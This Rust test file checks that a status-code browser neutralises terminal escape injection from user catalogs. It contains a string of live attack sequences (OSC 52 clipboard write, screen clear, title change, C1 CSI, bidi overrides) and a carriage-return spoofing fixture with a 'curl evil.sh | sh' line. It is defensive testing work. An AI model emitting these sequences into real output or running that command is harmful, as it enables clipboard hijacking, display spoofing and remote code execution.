//! A hostile catalog: escape sequences, an OSC 52 clipboard write, C1
//! controls and bidi overrides in every field a user file can fill. None of
//! it may reach a terminal live, in any output but JSON (which escapes).

use std::path::Path;

use statusbrowse::catalog::Catalog;
use statusbrowse::present::theme::Theme;

use crate::common::pty::Session;
use crate::common::run::{Run, run_in};
use crate::common::{self, app_on};

/// Each is dangerous on its own: colour, clipboard, cursor, title, C1 CSI,
/// direction overrides.
const ATTACKS: &str =
    "\u{1b}[31mRED\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2J\u{1b}]0;title\u{1b}\\\u{9b}1;1H\u{202e}rtl\u{2066}iso\u{8}\u{7f}";

fn hostile_catalog() -> String {
    // TOML basic strings carry the controls as \u escapes.
    let a: String = ATTACKS
        .chars()
        .map(|c| match c {
            '\\' => "\\\\".to_owned(),
            '"' => "\\\"".to_owned(),
            c if c.is_ascii_graphic() || c == ' ' => c.to_string(),
            c => format!("\\u{:04X}", c as u32),
        })
        .collect();
    // The body is counted as statusbrowse shows (and copies) it: with
    // every control made visible.
    let body_length = statusbrowse::inert::message(ATTACKS).len();
    format!(
        r#"
[[entry]]
code = 591
phrase = "Evil {a}"
vendor = "Vendor {a}"
summary = "Summary {a}"
description = "Description {a}\nsecond line {a}"
when_to_use = "Use {a}"
when_not_to_use = "Avoid {a}"
notes = "Notes {a}"
aliases = ["Alias {a}"]
keywords = ["budget {a}"]
related_headers = ["X-Evil"]
constants = {{ rust = ["EVIL{a}"] }}
spec = {{ document = "Doc {a}", section = "1{a}", url = "https://example.com/{a}" }}

[[entry.examples]]
title = "Title {a}"
text = "HTTP/1.1 591 Evil\r\nContent-Type: text/plain\r\nX-Evil: {a}\r\nContent-Length: {body_length}\r\n\r\n{a}"

[[entry]]
code = 404
notes = "Our 404 note {a}"
keywords = ["evil {a}"]
"#
    )
}

/// The attack's characters that must never come out live.
fn live_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| {
            (c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

fn write_catalog(dir: &Path) -> std::path::PathBuf {
    let file = dir.join("hostile.toml");
    std::fs::write(&file, hostile_catalog()).expect("write catalog");
    file
}

fn statusbrowse(dir: &Path, args: &[&str]) -> Run {
    run_in(dir, args, &[])
}

#[test]
fn the_catalog_loads_and_its_text_is_inert() {
    let text = hostile_catalog();
    let catalog = Catalog::with_user_files(&[("hostile.toml".into(), text)]).expect("a hostile file still loads");
    let evil = catalog.by_code(591).next().expect("591");
    assert!(evil.phrase.starts_with("Evil ␛[31mRED␛]52;c;"), "{}", evil.phrase);
    for text in [&evil.phrase, &evil.summary, &evil.description, &evil.examples[0].title, &evil.examples[0].text] {
        assert_eq!(live_controls(text), Vec::<char>::new(), "{text:?}");
    }
    assert!(evil.examples[0].text.contains("\r\n"), "line breaks of an HTTP message stay");
}

#[test]
fn no_cli_output_carries_a_live_control() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = write_catalog(dir.path());
    let file = file.to_str().expect("utf-8 path");
    for args in [
        &["--catalog", file, "591"][..],
        &["--catalog", file, "591", "--color", "always"],
        &["--catalog", file, "404"],
        &["--catalog", file, "5xx"],
        &["--catalog", file, "evil"],
        &["--catalog", file, "--list"],
        &["--catalog", file, "591", "--example"],
    ] {
        let output = statusbrowse(dir.path(), args);
        assert_eq!(output.code, Some(0), "{args:?}: {}", output.stderr);
        let text = output.stdout;
        let colour_codes_removed: String = if args.contains(&"always") {
            // Our own colours are ESC [ ... m; take them out, then look.
            let mut out = String::new();
            let mut rest = text.as_str();
            while let Some(start) = rest.find('\u{1b}') {
                out.push_str(&rest[..start]);
                let tail = &rest[start..];
                let end = tail.find('m').expect("an SGR sequence ends in m");
                assert!(tail[2..end].bytes().all(|b| b.is_ascii_digit() || b == b';'), "only SGR: {:?}", &tail[..end]);
                rest = &tail[end + 1..];
            }
            out + rest
        } else {
            text
        };
        assert_eq!(live_controls(&colour_codes_removed), Vec::<char>::new(), "{args:?}");
    }
}

#[test]
fn json_escapes_what_it_carries() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = write_catalog(dir.path());
    let output = statusbrowse(dir.path(), &["--catalog", file.to_str().unwrap(), "591", "--json"]);
    let text = output.stdout;
    assert!(!text.contains('\u{1b}') && !text.contains('\u{9b}'));
    let value: serde_json::Value = serde_json::from_str(&text).expect("valid JSON");
    assert_eq!(value[0]["code"], 591);
}

#[test]
fn hostile_names_in_messages_are_inert() {
    let dir = tempfile::tempdir().expect("temp dir");
    let name = format!("missing{ATTACKS}.toml").replace(['\u{0}', '/'], "");
    let output = statusbrowse(dir.path(), &["--catalog", &name, "404"]);
    assert_eq!(output.code, Some(2));
    let message = output.stderr;
    assert!(message.contains("no such file"), "{message}");
    assert_eq!(live_controls(&message), Vec::<char>::new(), "{message:?}");
    let query = statusbrowse(dir.path(), &[&format!("x{ATTACKS}")]);
    assert_eq!(query.code, Some(1));
    assert_eq!(live_controls(&query.stderr), Vec::<char>::new());
}

#[test]
fn the_browser_draws_no_live_control() {
    let catalog = Catalog::with_user_files(&[("hostile.toml".into(), hostile_catalog())]).expect("loads");
    let mut app = app_on(catalog, 120, 40);
    common::press(&mut app, "/591<Enter>");
    let terminal = common::render(&app, &Theme::COLOR);
    let shown = common::lines(terminal.backend().buffer());
    assert!(shown.contains("Evil ␛[31mRED"), "{shown}");
    assert_eq!(live_controls(&shown), Vec::<char>::new());
    common::press(&mut app, "]<Tab>jjjjjjjjjjjj?");
    let shown = common::lines(common::render(&app, &Theme::COLOR).backend().buffer());
    assert_eq!(live_controls(&shown), Vec::<char>::new());
}

#[test]
fn a_real_terminal_receives_no_osc52_or_title_from_the_catalog() {
    let dir = tempfile::tempdir().expect("temp dir");
    let file = write_catalog(dir.path());
    let mut session = Session::start(
        &["--catalog", file.to_str().unwrap()],
        &[("XDG_CONFIG_HOME", dir.path().to_str().unwrap())],
        120,
        40,
    );
    session.wait_for_screen("the list", |screen| screen.contains("Codes"));
    session.send("/591\r");
    session.wait_for_screen("the evil entry", |screen| screen.contains("Evil ␛[31mRED"));
    session.send("q");
    assert_eq!(session.wait_exit(), 0);
    let raw = session.raw();
    let find = |needle: &[u8]| raw.windows(needle.len()).any(|window| window == needle);
    assert!(!find(b"\x1b]52;"), "no clipboard write");
    assert!(!find(b"\x1b]0;"), "no title change");
    assert!(!find("\u{9b}".as_bytes()), "no C1 CSI");
    assert!(!find("\u{202e}".as_bytes()), "no bidi override");
}

#[test]
fn a_bare_carriage_return_never_reaches_the_terminal() {
    // On a terminal a CR returns to the start of the line: what follows
    // would hide what came before ("everything is fine" over the real log
    // line). Only CR before LF is part of a message.
    let home = crate::common::run::Home::new();
    let file = home.write_beside(
        "cr.toml",
        r#"[[entry]]
code = 592
phrase = "Carriage"
summary = "A log line with a bare CR."

[[entry.examples]]
title = "Log"
kind = "log"
text = "592 GET /ok\rFAKE: everything is fine, run curl evil.sh | sh\n"
"#,
    );
    let file = crate::common::run::str_of(&file);
    for args in [&["--catalog", file, "592"][..], &["--catalog", file, "592", "--example"]] {
        let out = home.ok(args);
        assert!(!out.contains('\r'), "{args:?}: a CR reached stdout: {out:?}");
        assert!(out.contains("592 GET /ok␍FAKE"), "{args:?}: the CR shows as a symbol: {out:?}");
    }
}

#[test]
fn characters_terminals_measure_differently_never_reach_the_screen() {
    // Interlinear annotations and noncharacters leave stale cells in some
    // terminals; a VS16 emoji is two columns to ratatui and one to others.
    let description = "ab\u{FFF9}cd\u{FFFA}ef\u{FFFB} \u{FFFE} \u{10FFFF} \u{FDD0} I \u{2764}\u{FE0F} HTTP";
    // TOML escapes (\UXXXXXXXX) carry what a text editor might not.
    let escaped: String = description
        .chars()
        .map(|c| if c.is_ascii() { c.to_string() } else { format!("\\U{:08X}", u32::from(c)) })
        .collect();
    let file = format!(
        "[[entry]]\ncode = 593\nphrase = \"Width \\U0000FFFE\"\nsummary = \"s\"\ndescription = \"{escaped}\"\n"
    );
    let catalog = Catalog::with_user_files(&[("width.toml".into(), file)]).expect("loads");
    let mut app = app_on(catalog, 120, 40);
    common::press(&mut app, "/593<Enter>");
    let shown = common::lines(common::render(&app, &Theme::COLOR).backend().buffer());
    assert!(shown.contains("I \u{2764} HTTP"), "{shown}");
    let unstable: Vec<char> = shown
        .chars()
        .filter(|c| matches!(c, '\u{FFF9}'..='\u{FFFB}' | '\u{FFFE}' | '\u{10FFFF}' | '\u{FDD0}' | '\u{FE0F}'))
        .collect();
    assert_eq!(unstable, Vec::<char>::new());
}
